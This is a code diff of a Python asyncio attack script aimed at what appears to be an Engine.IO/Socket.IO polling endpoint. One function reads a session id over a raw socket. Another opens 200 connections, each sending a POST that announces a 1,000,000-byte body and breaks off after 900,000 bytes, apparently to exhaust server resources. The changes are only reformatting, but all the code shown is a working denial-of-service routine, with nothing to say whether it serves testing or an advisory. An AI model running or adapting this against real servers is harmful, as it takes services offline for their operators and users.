@@ -130,7 +130,8 @@ async def polling_sid(a: Attacker) -> str:
     reader, writer = await asyncio.open_connection(a.host, a.port)
     writer.write(f"GET {POLLING} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
     head = await reader.readuntil(b"\r\n\r\n")
-    length = int(next(line.split(b":")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length")))
+    length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
+                      if line.lower().startswith(b"content-length")))
     body = await reader.readexactly(length)
     writer.close()
     return str(json.loads(body[1:])["sid"])
@@ -140,7 +141,7 @@ async def aborted_posts(a: Attacker, count: int = 200, sent: int = 900_000) -> N
     """Polling POSTs announcing 1,000,000 bytes, cut off after `sent`."""
     sid = await polling_sid(a)
     for _ in range(count):
-        reader, writer = await asyncio.open_connection(a.host, a.port)
+        _, writer = await asyncio.open_connection(a.host, a.port)
         writer.write(f"POST {POLLING}&sid={sid} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n"
                      f"Content-Length: 1000000\r\n\r\n".encode() + b"4" + b"x" * (sent - 1))
         await writer.drain()
